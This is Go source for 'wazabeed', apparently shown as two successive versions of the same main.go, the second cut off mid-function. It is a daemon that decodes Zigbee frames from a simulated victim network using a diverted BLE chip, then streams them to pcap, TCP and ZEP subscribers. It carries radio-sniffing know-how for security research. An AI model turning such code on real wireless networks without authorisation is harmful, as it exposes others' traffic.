	"syscall"
	"time"

	"wazabee"
	"wazabee/internal/capture"
	"wazabee/internal/dsp"
	"wazabee/internal/dsp/stream"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
	"wazabee/internal/zigbee"
)

type config struct {
	seed         int64
	sps          int
	snrDB        float64
	interval     time.Duration
	channel      int
	chunk        int // 0 = whole-capture mode
	periods      int // 0 = run until the context is cancelled
	pcapPath     string
	pcapMaxBytes int64
	listenTCP    string
	listenZEP    string
	metricsAddr  string
	deviceID     uint
	queueDepth   int
	logLevel     string
}

func main() {
	if err := run(os.Args[1:], os.Stdout, os.Stderr); err != nil {
		os.Exit(1)
	}
}

// run parses flags, builds the daemon and drives it to completion. It
// returns errors instead of calling log.Fatal so every deferred
// shutdown (signal handler, listeners, pcap flush) runs on the way out.
func run(args []string, out, errOut io.Writer) error {
	cfg := config{}
	fs := flag.NewFlagSet("wazabeed", flag.ExitOnError)
	registerFlags(fs, &cfg)
	if err := fs.Parse(args); err != nil {
		return err
	}

	logger := obs.DefaultLogger()
	logger.SetSink(errOut)
	lv, err := obs.ParseLevel(cfg.logLevel)
	if err != nil {
		logger.Error("daemon", "bad -log-level", "err", err.Error())
		return err
	}
	logger.SetLevel(lv)

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	d, err := newDaemon(cfg)
	if err != nil {
		logger.Error("daemon", "startup failed", "err", err.Error())
		return err
	}
	if err := d.run(ctx, out); err != nil {
		logger.Error("daemon", "pipeline failed", "err", err.Error())
		return err
	}
	return nil
}

func registerFlags(flag *flag.FlagSet, cfg *config) {
	flag.Int64Var(&cfg.seed, "seed", 7, "victim network simulation seed")
	flag.IntVar(&cfg.sps, "sps", 8, "baseband samples per chip")
	flag.Float64Var(&cfg.snrDB, "snr", 22, "attacker link SNR in dB")
	flag.DurationVar(&cfg.interval, "interval", 250*time.Millisecond, "sensor reporting interval")
	flag.IntVar(&cfg.channel, "channel", zigbee.DefaultChannel, "802.15.4 channel to sniff")
	flag.IntVar(&cfg.chunk, "chunk", 0, "feed the receiver IQ slabs of this many samples via the streaming pipeline (0 = whole-capture mode)")
	flag.IntVar(&cfg.periods, "periods", 0, "stop after this many reporting periods (0 = run until interrupted)")
	flag.StringVar(&cfg.pcapPath, "pcap", "wazabee.pcap", "rotating pcap output path (empty disables)")
	flag.Int64Var(&cfg.pcapMaxBytes, "pcap-max-bytes", 16<<20, "rotate the pcap file beyond this size (0 = never)")
	flag.StringVar(&cfg.listenTCP, "listen", ":7754", "serve length-prefixed records to TCP subscribers here (empty disables)")
	flag.StringVar(&cfg.listenZEP, "zep-listen", "", "serve ZEP v2 datagrams to UDP subscribers here, e.g. :17754 (empty disables)")
	flag.StringVar(&cfg.metricsAddr, "metrics-addr", "", "serve /metrics and net/http/pprof on this address (empty disables)")
	flag.UintVar(&cfg.deviceID, "zep-device", 0x5742, "ZEP device id stamped on outgoing datagrams")
	flag.IntVar(&cfg.queueDepth, "queue", 256, "per-subscriber bounded queue depth")
	flag.StringVar(&cfg.logLevel, "log-level", "info", "structured log threshold: debug, info, warn or error")
}

// daemon owns the sniffer pipeline and its listeners. Listeners bind in
// newDaemon so tests (and operators using port 0) can learn the chosen
// addresses before the pipeline starts.
type daemon struct {
	cfg  config
	hub  *capture.Hub
	log  *obs.Logger
	link *link.Aggregator

	tcpLn     net.Listener
	zepPC     net.PacketConn
	metricsLn net.Listener
	pcap      *capture.RotatingPCAP
}

func newDaemon(cfg config) (*daemon, error) {
	if cfg.queueDepth < 1 {
		return nil, fmt.Errorf("wazabeed: queue depth %d < 1", cfg.queueDepth)
	}
	d := &daemon{
		cfg:  cfg,
		hub:  capture.NewHub(nil),
		log:  obs.DefaultLogger(),
		link: link.NewAggregator(nil),
	}
	d.hub.Log = d.log
	if cfg.listenTCP != "" {
		ln, err := net.Listen("tcp", cfg.listenTCP)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: tcp listener: %w", err)
		}
		d.tcpLn = ln
	}
	if cfg.listenZEP != "" {
		pc, err := net.ListenPacket("udp", cfg.listenZEP)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: zep listener: %w", err)
		}
		d.zepPC = pc
	}
	if cfg.metricsAddr != "" {
		ln, err := net.Listen("tcp", cfg.metricsAddr)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: metrics listener: %w", err)
		}
		d.metricsLn = ln
	}
	if cfg.pcapPath != "" {
		pcap, err := capture.OpenRotatingPCAP(cfg.pcapPath, cfg.pcapMaxBytes, nil)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: pcap: %w", err)
		}
		d.pcap = pcap
	}
	return d, nil
}

// tcpAddr returns the bound TCP address, or "" when disabled.
func (d *daemon) tcpAddr() string {
	if d.tcpLn == nil {
		return ""
	}
	return d.tcpLn.Addr().String()
}

// zepAddr returns the bound ZEP/UDP address, or "" when disabled.
func (d *daemon) zepAddr() string {
	if d.zepPC == nil {
		return ""
	}
	return d.zepPC.LocalAddr().String()
}

// metricsAddr returns the bound metrics/debug address, or "" when
// disabled.
func (d *daemon) metricsAddr() string {
	if d.metricsLn == nil {
		return ""
	}
	return d.metricsLn.Addr().String()
}

func (d *daemon) run(ctx context.Context, out io.Writer) error {
	cfg := d.cfg
	network, err := wazabee.NewVictimNetwork(cfg.seed, cfg.sps, cfg.snrDB)
	if err != nil {
		return err
	}
	var live *zigbee.LiveNetwork
	if cfg.chunk > 0 {
		live, err = zigbee.StartLiveChunked(network, cfg.interval, cfg.channel, cfg.chunk)
	} else {
		live, err = zigbee.StartLive(network, cfg.interval, cfg.channel)
	}
	if err != nil {
		return err
	}
	defer live.Shutdown()

	rx, err := wazabee.NewReceiver(wazabee.CC1352R1(), cfg.sps)
	if err != nil {
		return err
	}

	var consumers sync.WaitGroup

	// Consumer: the rotating pcap tee.
	if d.pcap != nil {
		sub, err := d.hub.Subscribe("pcap", cfg.queueDepth)
		if err != nil {
			return err
		}
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			for {
				rec, ok := sub.Recv()
				if !ok {
					return
				}
				if err := d.pcap.WriteRecord(rec); err != nil {
					fmt.Fprintln(out, "wazabeed: pcap:", err)
					return
				}
			}
		}()
		defer d.pcap.Close()
	}

	// Consumers: one per accepted TCP connection.
	if d.tcpLn != nil {
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			d.serveTCP()
		}()
		defer d.tcpLn.Close()
		fmt.Fprintf(out, "wazabeed: serving records on tcp %s\n", d.tcpAddr())
	}

	// Consumer: the ZEP/UDP fan-out.
	if d.zepPC != nil {
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			d.serveZEP()
		}()
		defer d.zepPC.Close()
		fmt.Fprintf(out, "wazabeed: serving ZEP v2 on udp %s\n", d.zepAddr())
	}

	if d.metricsLn != nil {
		mux := http.NewServeMux()
		mux.Handle("/metrics", obs.Default())
		mux.Handle("/debug/link", d.link)
		mux.Handle("/logz", d.log)
		mux.Handle("/debug/pprof/", http.DefaultServeMux)
		srv := &http.Server{Handler: mux}
		go func() {
			if err := srv.Serve(d.metricsLn); err != nil && !errors.Is(err, http.ErrServerClosed) {
				d.log.Error("daemon", "metrics server failed", "err", err.Error())
			}
		}()
		defer srv.Close()
		fmt.Fprintf(out, "wazabeed: serving /metrics, /debug/link, /logz and /debug/pprof on %s\n", d.metricsAddr())
	}

	// Producer: decode live periods and publish them to the hub until
	// the period budget, a stream end, or a signal stops the daemon.
	d.log.Info("daemon", "pipeline started",
		"channel", cfg.channel, "snr_db", cfg.snrDB, "interval", cfg.interval.String(),
		"chunk", cfg.chunk)
	published, decoded := 0, 0
	reg := obs.Default()
	pool := stream.Shared()
	// finish publishes one concluded reporting period: link aggregation,
	// the hub record, and the daemon/pool gauges.
	finish := func(c zigbee.Capture, dem *ieee802154.Demodulated, st *link.Stats, err error) {
		if err != nil {
			dem = nil
		} else {
			decoded++
		}
		d.link.Observe(c.Channel, st)
		d.log.Debug("daemon", "period received",
			"seq", c.Seq, "result", st.Result(), "lqi", st.LQI,
			"snr_db", st.SNRdB, "cfo_hz", st.CFOHz)
		rec := capture.NewStatsRecord(c.At, c.Channel, c.Seq, c.IQ, dem, st, c.LinkSNRdB)
		d.hub.Publish(rec)
		published++
		reg.Gauge("wazabee_capture_daemon_periods").Set(float64(published))
		ps := pool.Stats()
		reg.Gauge("wazabee_stream_pool_hits_total").Set(float64(ps.Hits))
		reg.Gauge("wazabee_stream_pool_misses_total").Set(float64(ps.Misses))
	}
	streamEnded := func() {
		if err := live.Err(); err != nil {
			d.log.Error("daemon", "capture stream ended", "err", err.Error())
			fmt.Fprintln(out, "wazabeed: capture stream ended:", err)
		}
	}

	if cfg.chunk > 0 {
		// Chunked mode: one long-lived streaming receiver per daemon, fed
		// IQ slabs as they arrive and flushed at every capture boundary.
		rxs := rx.Stream()
		defer rxs.Close()
		var cur zigbee.Capture
		var captureIQ dsp.IQ
	chunkProducer:
		for cfg.periods == 0 || published < cfg.periods {
			select {
			case <-ctx.Done():
				if rxs.Pending() > 0 {
					// Drain the partially buffered capture so its verdict,
					// stats and metrics are concluded rather than dropped.
					_, st, _ := rxs.Flush()
					d.link.Observe(cfg.channel, st)
					d.log.Info("daemon", "drained partial capture on shutdown",
						"result", st.Result())
				}
				break chunkProducer
			case cc, ok := <-live.Chunks():
				if !ok {
					streamEnded()
					break chunkProducer
				}
				if cc.Offset == 0 {
					cur = cc.Capture
					captureIQ = captureIQ[:0]
				}
				captureIQ = append(captureIQ, cc.IQ...)
				rxs.Push(cc.IQ)
				if !cc.Last {
					continue
				}
				dem, st, err := rxs.Flush()
				c := cur
				// The record keeps the capture waveform; the accumulation
				// buffer is reused next period, so hand it a copy.
				c.IQ = captureIQ.Clone()
				finish(c, dem, st, err)
			}
		}
	} else {
	producer:
		for cfg.periods == 0 || published < cfg.periods {
			select {
			case <-ctx.Done():
				break producer
			case c, ok := <-live.Captures():
				if !ok {
					streamEnded()
					break producer
				}
				dem, st, err := rx.ReceiveStats(c.IQ)
				finish(c, dem, st, err)
			}
		}
	}

	// Shut down: end the stream, let subscribers drain, close
	// listeners so their accept/read loops unblock.
	d.hub.Close()
	if d.tcpLn != nil {
		d.tcpLn.Close()
	}
	if d.zepPC != nil {
		d.zepPC.Close()
	}
	consumers.Wait()

	d.log.Info("daemon", "pipeline stopped", "published", published, "decoded", decoded)
	fmt.Fprintf(out, "wazabeed: %d periods published, %d frames decoded\n", published, decoded)
	if table := d.link.Table(); table != "" {
		fmt.Fprintf(out, "wazabeed: link quality by channel:\n%s", table)
	}
	if d.pcap != nil {
		fmt.Fprintf(out, "wazabeed: pcap capture at %s (%d packets) — open with: wireshark %s\n",
			cfg.pcapPath, d.pcap.Packets(), cfg.pcapPath)
	}
	return nil
}

// serveTCP accepts subscribers and streams them length-prefixed
// records; each connection gets its own bounded hub subscription, so a
// stalled client only drops its own records.
func (d *daemon) serveTCP() {
	var conns sync.WaitGroup
	defer conns.Wait()
	for {
		conn, err := d.tcpLn.Accept()
		if err != nil {
			return // listener closed on shutdown
		}
		name := "tcp:" + conn.RemoteAddr().String()
		sub, err := d.hub.Subscribe(name, d.cfg.queueDepth)
		if err != nil {
			conn.Close()
			return // hub closed
		}
		conns.Add(1)
		go func() {
			defer conns.Done()
			defer conn.Close()
			defer sub.Close()
			for {
				rec, ok := sub.Recv()
				if !ok {
					return
				}
				if err := capture.WriteRecord(conn, rec); err != nil {
					return // subscriber went away
				}
			}
		}()
	}
}

// serveZEP tracks UDP subscribers (any inbound datagram subscribes its
// source address) and pushes each captured frame as one ZEP v2 packet.
func (d *daemon) serveZEP() {
	reg := obs.Default()
	var mu sync.Mutex
	peers := make(map[string]net.Addr)

	// Registration loop: one datagram from a collector subscribes it.
	go func() {
		buf := make([]byte, 64)
		for {
			_, addr, err := d.zepPC.ReadFrom(buf)
			if err != nil {
				return // socket closed on shutdown
			}
			mu.Lock()
			peers[addr.String()] = addr
			reg.Gauge("wazabee_capture_zep_subscribers").Set(float64(len(peers)))
			mu.Unlock()
		}
	}()

	sub, err := d.hub.Subscribe("zep", d.cfg.queueDepth)
	if err != nil {
		return
	}
	for {
		rec, ok := sub.Recv()
		if !ok {
			return
		}
		if len(rec.PSDU) == 0 {
			continue
		}
		// The datagram reuses the record's own stream sequence number, so
		// collectors see the same numbering (and gaps) as the capture loop.
		datagram, err := capture.EncodeZEPRecord(rec, uint16(d.cfg.deviceID))
		if err != nil {
			continue
		}
		mu.Lock()
		for key, addr := range peers {
			if _, err := d.zepPC.WriteTo(datagram, addr); err != nil {
				delete(peers, key)
				continue
			}
			reg.Counter("wazabee_capture_zep_datagrams_total").Inc()
		}
		reg.Gauge("wazabee_capture_zep_subscribers").Set(float64(len(peers)))
		mu.Unlock()
	}
}
