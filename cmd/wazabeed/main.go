// wazabeed is the long-running sniffer daemon: it runs the live victim
// network next to a WazaBee receiver (a diverted BLE chip), tees every
// decoded 802.15.4 frame into a rotating pcap file, and serves the
// capture stream to any number of concurrent subscribers — over TCP as
// length-prefixed records and over UDP as ZEP v2 datagrams — while
// exposing the process's /metrics and pprof handlers.
//
//	wazabeed -listen :7754 -zep-listen :17754 -pcap wazabee.pcap -metrics-addr :9090
//
// TCP subscribers connect and read framed capture.Record values; ZEP
// subscribers send any datagram to the UDP port to subscribe and then
// receive one ZEP v2 packet per captured frame (Wireshark dissects
// them natively: udp.port == 17754).
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	_ "net/http/pprof"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	"wazabee"
	"wazabee/internal/capture"
	"wazabee/internal/dsp"
	"wazabee/internal/dsp/stream"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
	"wazabee/internal/zigbee"
)

type config struct {
	seed         int64
	sps          int
	snrDB        float64
	interval     time.Duration
	channel      int
	chunk        int // 0 = whole-capture mode
	periods      int // 0 = run until the context is cancelled
	fidelity     string
	pcapPath     string
	pcapMaxBytes int64
	listenTCP    string
	listenZEP    string
	metricsAddr  string
	healthAddr   string
	deviceID     uint
	queueDepth   int
	logLevel     string
}

func main() {
	if err := run(os.Args[1:], os.Stdout, os.Stderr); err != nil {
		os.Exit(1)
	}
}

// run parses flags, builds the daemon and drives it to completion. It
// returns errors instead of calling log.Fatal so every deferred
// shutdown (signal handler, listeners, pcap flush) runs on the way out.
func run(args []string, out, errOut io.Writer) error {
	cfg := config{}
	fs := flag.NewFlagSet("wazabeed", flag.ExitOnError)
	registerFlags(fs, &cfg)
	if err := fs.Parse(args); err != nil {
		return err
	}

	logger := obs.DefaultLogger()
	logger.SetSink(errOut)
	lv, err := obs.ParseLevel(cfg.logLevel)
	if err != nil {
		logger.Error("daemon", "bad -log-level", "err", err.Error())
		return err
	}
	logger.SetLevel(lv)

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	d, err := newDaemon(cfg)
	if err != nil {
		logger.Error("daemon", "startup failed", "err", err.Error())
		return err
	}
	if err := d.run(ctx, out); err != nil {
		logger.Error("daemon", "pipeline failed", "err", err.Error())
		return err
	}
	return nil
}

func registerFlags(flag *flag.FlagSet, cfg *config) {
	flag.Int64Var(&cfg.seed, "seed", 7, "victim network simulation seed")
	flag.IntVar(&cfg.sps, "sps", 8, "baseband samples per chip")
	flag.Float64Var(&cfg.snrDB, "snr", 22, "attacker link SNR in dB")
	flag.DurationVar(&cfg.interval, "interval", 250*time.Millisecond, "sensor reporting interval")
	flag.IntVar(&cfg.channel, "channel", zigbee.DefaultChannel, "802.15.4 channel to sniff")
	flag.IntVar(&cfg.chunk, "chunk", 0, "feed the receiver IQ slabs of this many samples via the streaming pipeline (0 = whole-capture mode)")
	flag.StringVar(&cfg.fidelity, "fidelity", "iq", "victim-to-victim delivery tier: iq (full DSP), symbol or frame (calibrated draws; the attacker capture stays IQ)")
	flag.IntVar(&cfg.periods, "periods", 0, "stop after this many reporting periods (0 = run until interrupted)")
	flag.StringVar(&cfg.pcapPath, "pcap", "wazabee.pcap", "rotating pcap output path (empty disables)")
	flag.Int64Var(&cfg.pcapMaxBytes, "pcap-max-bytes", 16<<20, "rotate the pcap file beyond this size (0 = never)")
	flag.StringVar(&cfg.listenTCP, "listen", ":7754", "serve length-prefixed records to TCP subscribers here (empty disables)")
	flag.StringVar(&cfg.listenZEP, "zep-listen", "", "serve ZEP v2 datagrams to UDP subscribers here, e.g. :17754 (empty disables)")
	flag.StringVar(&cfg.metricsAddr, "metrics-addr", "", "serve /metrics, /healthz, /readyz, /debug/flight and net/http/pprof on this address (empty disables)")
	flag.StringVar(&cfg.healthAddr, "health-addr", "", "additionally serve only /healthz, /readyz and /debug/flight on this dedicated address, for probes that must not reach pprof (empty disables; the endpoints stay on -metrics-addr either way)")
	flag.UintVar(&cfg.deviceID, "zep-device", 0x5742, "ZEP device id stamped on outgoing datagrams")
	flag.IntVar(&cfg.queueDepth, "queue", 256, "per-subscriber bounded queue depth")
	flag.StringVar(&cfg.logLevel, "log-level", "info", "structured log threshold: debug, info, warn or error")
}

// daemon owns the sniffer pipeline and its listeners. Listeners bind in
// newDaemon so tests (and operators using port 0) can learn the chosen
// addresses before the pipeline starts.
type daemon struct {
	cfg    config
	hub    *capture.Hub
	log    *obs.Logger
	link   *link.Aggregator
	health *obs.Health
	flight *obs.Flight

	// probeEvery is the background health re-evaluation period; the
	// endpoints themselves probe on every request regardless. Tests
	// shorten it.
	probeEvery time.Duration

	tcpLn     net.Listener
	zepPC     net.PacketConn
	metricsLn net.Listener
	healthLn  net.Listener
	pcap      *capture.RotatingPCAP
}

func newDaemon(cfg config) (*daemon, error) {
	if cfg.queueDepth < 1 {
		return nil, fmt.Errorf("wazabeed: queue depth %d < 1", cfg.queueDepth)
	}
	d := &daemon{
		cfg:        cfg,
		hub:        capture.NewHub(nil),
		log:        obs.DefaultLogger(),
		link:       link.NewAggregator(nil),
		health:     obs.NewHealth(nil),
		flight:     obs.DefaultFlight(),
		probeEvery: time.Second,
	}
	d.hub.Log = d.log
	d.hub.Flight = d.flight
	if cfg.listenTCP != "" {
		ln, err := net.Listen("tcp", cfg.listenTCP)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: tcp listener: %w", err)
		}
		d.tcpLn = ln
	}
	if cfg.listenZEP != "" {
		pc, err := net.ListenPacket("udp", cfg.listenZEP)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: zep listener: %w", err)
		}
		d.zepPC = pc
	}
	if cfg.metricsAddr != "" {
		ln, err := net.Listen("tcp", cfg.metricsAddr)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: metrics listener: %w", err)
		}
		d.metricsLn = ln
	}
	if cfg.healthAddr != "" {
		ln, err := net.Listen("tcp", cfg.healthAddr)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: health listener: %w", err)
		}
		d.healthLn = ln
	}
	if cfg.pcapPath != "" {
		pcap, err := capture.OpenRotatingPCAP(cfg.pcapPath, cfg.pcapMaxBytes, nil)
		if err != nil {
			return nil, fmt.Errorf("wazabeed: pcap: %w", err)
		}
		d.pcap = pcap
	}
	return d, nil
}

// tcpAddr returns the bound TCP address, or "" when disabled.
func (d *daemon) tcpAddr() string {
	if d.tcpLn == nil {
		return ""
	}
	return d.tcpLn.Addr().String()
}

// zepAddr returns the bound ZEP/UDP address, or "" when disabled.
func (d *daemon) zepAddr() string {
	if d.zepPC == nil {
		return ""
	}
	return d.zepPC.LocalAddr().String()
}

// metricsAddr returns the bound metrics/debug address, or "" when
// disabled.
func (d *daemon) metricsAddr() string {
	if d.metricsLn == nil {
		return ""
	}
	return d.metricsLn.Addr().String()
}

// healthAddr returns the bound dedicated health address, or "" when
// disabled.
func (d *daemon) healthAddr() string {
	if d.healthLn == nil {
		return ""
	}
	return d.healthLn.Addr().String()
}

// healthMux routes the probe-safe endpoint set: health, readiness and
// the flight recorder, with nothing that can block or leak (no pprof,
// no log tail).
func (d *daemon) healthMux() *http.ServeMux {
	mux := http.NewServeMux()
	mux.Handle("/healthz", d.health.Healthz())
	mux.Handle("/readyz", d.health.Readyz())
	mux.Handle("/debug/flight", d.flight)
	return mux
}

func (d *daemon) run(ctx context.Context, out io.Writer) error {
	cfg := d.cfg
	network, err := wazabee.NewVictimNetwork(cfg.seed, cfg.sps, cfg.snrDB)
	if err != nil {
		return err
	}
	if cfg.fidelity != "" { // empty = the zero-value config's IQ default
		fid, err := wazabee.ParseFidelity(cfg.fidelity)
		if err != nil {
			return err
		}
		if err := network.SetFidelity(fid); err != nil {
			return err
		}
	}
	var live *zigbee.LiveNetwork
	if cfg.chunk > 0 {
		live, err = zigbee.StartLiveChunked(network, cfg.interval, cfg.channel, cfg.chunk)
	} else {
		live, err = zigbee.StartLive(network, cfg.interval, cfg.channel)
	}
	if err != nil {
		return err
	}
	defer live.Shutdown()

	rx, err := wazabee.NewReceiver(wazabee.CC1352R1(), cfg.sps)
	if err != nil {
		return err
	}

	// Observability: build-info and uptime gauges, the runtime sampler,
	// the health registry with one component per moving part, and a
	// SIGQUIT handler that dumps the flight recorder without stopping
	// the daemon (the classic "what just happened" escape hatch).
	obs.RegisterBuildInfo(nil)
	obs.StartRuntimeSampler(ctx, nil, 0)
	d.health.Register("live", true, live.Err)
	d.health.Register("hub", true, nil).SetOK()
	hcPipeline := d.health.Register("rxstream", true, nil)
	hcPipeline.SetOK()
	go d.health.Run(ctx, d.probeEvery)

	sigq := make(chan os.Signal, 1)
	signal.Notify(sigq, syscall.SIGQUIT)
	defer signal.Stop(sigq)
	go func() {
		for {
			select {
			case <-ctx.Done():
				return
			case <-sigq:
				fmt.Fprintln(out, "wazabeed: SIGQUIT — flight recorder dump:")
				d.flight.Dump(out)
			}
		}
	}()

	var consumers sync.WaitGroup

	// Consumer: the rotating pcap tee. A write error degrades the pcap
	// health component and is surfaced as a warn event, but the tee keeps
	// consuming: one full disk must not silently end the capture trail
	// for every later record that would have fit after rotation.
	if d.pcap != nil {
		hcPcap := d.health.Register("pcap", false, nil)
		hcPcap.SetOK()
		sub, err := d.hub.Subscribe("pcap", cfg.queueDepth)
		if err != nil {
			return err
		}
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			for {
				rec, ok := sub.Recv()
				if !ok {
					return
				}
				if err := d.pcap.WriteRecord(rec); err != nil {
					d.log.Warn("pcap", "write failed",
						"path", cfg.pcapPath, "seq", rec.Seq, "err", err.Error())
					hcPcap.SetDegraded(fmt.Sprintf("write %s: %v", cfg.pcapPath, err))
					d.flight.Record(obs.FlightEvent{
						Kind: "error", Component: "pcap", Frame: int64(rec.Seq),
						Detail: err.Error(),
					})
					continue
				}
				hcPcap.SetOK()
			}
		}()
		defer d.pcap.Close()
	}

	// Consumers: one per accepted TCP connection.
	if d.tcpLn != nil {
		hcTCP := d.health.Register("tcp", true, nil)
		hcTCP.SetOK()
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			d.serveTCP(hcTCP)
		}()
		defer d.tcpLn.Close()
		fmt.Fprintf(out, "wazabeed: serving records on tcp %s\n", d.tcpAddr())
	}

	// Consumer: the ZEP/UDP fan-out.
	if d.zepPC != nil {
		hcZEP := d.health.Register("zep", true, nil)
		hcZEP.SetOK()
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			d.serveZEP(hcZEP)
		}()
		defer d.zepPC.Close()
		fmt.Fprintf(out, "wazabeed: serving ZEP v2 on udp %s\n", d.zepAddr())
	}

	if d.metricsLn != nil {
		mux := d.healthMux()
		mux.Handle("/metrics", obs.Default())
		mux.Handle("/debug/link", d.link)
		mux.Handle("/debug/sim", live.DebugHandler())
		mux.Handle("/logz", d.log)
		mux.Handle("/debug/pprof/", http.DefaultServeMux)
		srv := &http.Server{Handler: mux}
		go func() {
			if err := srv.Serve(d.metricsLn); err != nil && !errors.Is(err, http.ErrServerClosed) {
				d.log.Error("daemon", "metrics server failed", "err", err.Error())
			}
		}()
		defer srv.Close()
		fmt.Fprintf(out, "wazabeed: serving /metrics, /healthz, /readyz, /debug/flight, /debug/link, /debug/sim, /logz and /debug/pprof on %s\n", d.metricsAddr())
	}

	if d.healthLn != nil {
		srv := &http.Server{Handler: d.healthMux()}
		go func() {
			if err := srv.Serve(d.healthLn); err != nil && !errors.Is(err, http.ErrServerClosed) {
				d.log.Error("daemon", "health server failed", "err", err.Error())
			}
		}()
		defer srv.Close()
		fmt.Fprintf(out, "wazabeed: serving /healthz, /readyz and /debug/flight on %s\n", d.healthAddr())
	}

	// Producer: decode live periods and publish them to the hub until
	// the period budget, a stream end, or a signal stops the daemon.
	d.log.Info("daemon", "pipeline started",
		"channel", cfg.channel, "snr_db", cfg.snrDB, "interval", cfg.interval.String(),
		"chunk", cfg.chunk)
	published, decoded := 0, 0
	reg := obs.Default()
	pool := stream.Shared()
	// finish publishes one concluded reporting period: link aggregation,
	// the hub record, and the daemon/pool gauges.
	finish := func(c zigbee.Capture, dem *ieee802154.Demodulated, st *link.Stats, err error) {
		if err != nil {
			dem = nil
		} else {
			decoded++
		}
		d.link.Observe(c.Channel, st)
		d.log.Debug("daemon", "period received",
			"seq", c.Seq, "result", st.Result(), "lqi", st.LQI,
			"snr_db", st.SNRdB, "cfo_hz", st.CFOHz)
		ev := obs.FlightEvent{
			Kind: "frame", Component: "rx", Frame: int64(c.Seq), Detail: st.Result(),
		}
		if !c.Origin.IsZero() {
			ev.Latency = time.Since(c.Origin)
		}
		d.flight.Record(ev)
		rec := capture.NewStatsRecord(c.At, c.Channel, c.Seq, c.IQ, dem, st, c.LinkSNRdB)
		rec.Origin = c.Origin
		d.hub.Publish(rec)
		published++
		reg.Gauge("wazabee_capture_daemon_periods").Set(float64(published))
		ps := pool.Stats()
		reg.Gauge("wazabee_stream_pool_hits_total").Set(float64(ps.Hits))
		reg.Gauge("wazabee_stream_pool_misses_total").Set(float64(ps.Misses))
	}
	streamEnded := func() {
		if err := live.Err(); err != nil {
			hcPipeline.SetDown(err.Error())
			d.flight.Record(obs.FlightEvent{
				Kind: "error", Component: "live", Frame: -1, Detail: err.Error(),
			})
			d.log.Error("daemon", "capture stream ended", "err", err.Error())
			fmt.Fprintln(out, "wazabeed: capture stream ended:", err)
		}
	}

	if cfg.chunk > 0 {
		// Chunked mode: one long-lived streaming receiver per daemon, fed
		// IQ slabs as they arrive and flushed at every capture boundary.
		rxs := rx.Stream()
		defer rxs.Close()
		var cur zigbee.Capture
		var captureIQ dsp.IQ
	chunkProducer:
		for cfg.periods == 0 || published < cfg.periods {
			select {
			case <-ctx.Done():
				if rxs.Pending() > 0 {
					// Drain the partially buffered capture so its verdict,
					// stats and metrics are concluded rather than dropped.
					_, st, _ := rxs.Flush()
					d.link.Observe(cfg.channel, st)
					d.log.Info("daemon", "drained partial capture on shutdown",
						"result", st.Result())
				}
				break chunkProducer
			case cc, ok := <-live.Chunks():
				if !ok {
					streamEnded()
					break chunkProducer
				}
				if cc.Offset == 0 {
					cur = cc.Capture
					captureIQ = captureIQ[:0]
					rxs.SetOrigin(cc.Capture.Origin)
				}
				captureIQ = append(captureIQ, cc.IQ...)
				rxs.Push(cc.IQ)
				if !cc.Last {
					continue
				}
				dem, st, err := rxs.Flush()
				c := cur
				// The record keeps the capture waveform; the accumulation
				// buffer is reused next period, so hand it a copy.
				c.IQ = captureIQ.Clone()
				finish(c, dem, st, err)
			}
		}
	} else {
	producer:
		for cfg.periods == 0 || published < cfg.periods {
			select {
			case <-ctx.Done():
				break producer
			case c, ok := <-live.Captures():
				if !ok {
					streamEnded()
					break producer
				}
				dem, st, err := rx.ReceiveStatsAt(c.Origin, c.IQ)
				finish(c, dem, st, err)
			}
		}
	}

	// Shut down: snapshot the subscriber accounting while the subs are
	// still registered, end the stream, let subscribers drain, close
	// listeners so their accept/read loops unblock.
	subSnaps := d.hub.Snapshot()
	d.hub.Close()
	if d.tcpLn != nil {
		d.tcpLn.Close()
	}
	if d.zepPC != nil {
		d.zepPC.Close()
	}
	consumers.Wait()

	d.log.Info("daemon", "pipeline stopped", "published", published, "decoded", decoded)
	fmt.Fprintf(out, "wazabeed: %d periods published, %d frames decoded\n", published, decoded)
	if table := d.link.Table(); table != "" {
		fmt.Fprintf(out, "wazabeed: link quality by channel:\n%s", table)
	}
	if len(subSnaps) > 0 {
		fmt.Fprintf(out, "wazabeed: subscribers:\n")
		fmt.Fprintf(out, "  %-24s %9s %9s %7s %9s\n", "subscriber", "offered", "delivered", "dropped", "max queue")
		for _, s := range subSnaps {
			fmt.Fprintf(out, "  %-24s %9d %9d %7d %9d\n",
				s.Name, s.Offered, s.Delivered, s.Dropped, s.MaxQueueDepth)
		}
	}
	fmt.Fprintf(out, "wazabeed: flight recorder: %d events (%s)\n",
		d.flight.Recorded(), d.flight.Summary())
	if d.pcap != nil {
		fmt.Fprintf(out, "wazabeed: pcap capture at %s (%d packets) — open with: wireshark %s\n",
			cfg.pcapPath, d.pcap.Packets(), cfg.pcapPath)
	}
	return nil
}

// serveTCP accepts subscribers and streams them length-prefixed
// records; each connection gets its own bounded hub subscription, so a
// stalled client only drops its own records. The health component goes
// Down the moment the accept loop exits — before draining the live
// connections, whose subscribers may legitimately stay connected for a
// long tail — so readiness flips as soon as new subscribers are refused.
func (d *daemon) serveTCP(hc *obs.HealthComponent) {
	var conns sync.WaitGroup
	defer conns.Wait()
	for {
		conn, err := d.tcpLn.Accept()
		if err != nil {
			hc.SetDown("accept loop exited: " + err.Error())
			return // listener closed on shutdown
		}
		name := "tcp:" + conn.RemoteAddr().String()
		sub, err := d.hub.Subscribe(name, d.cfg.queueDepth)
		if err != nil {
			conn.Close()
			return // hub closed
		}
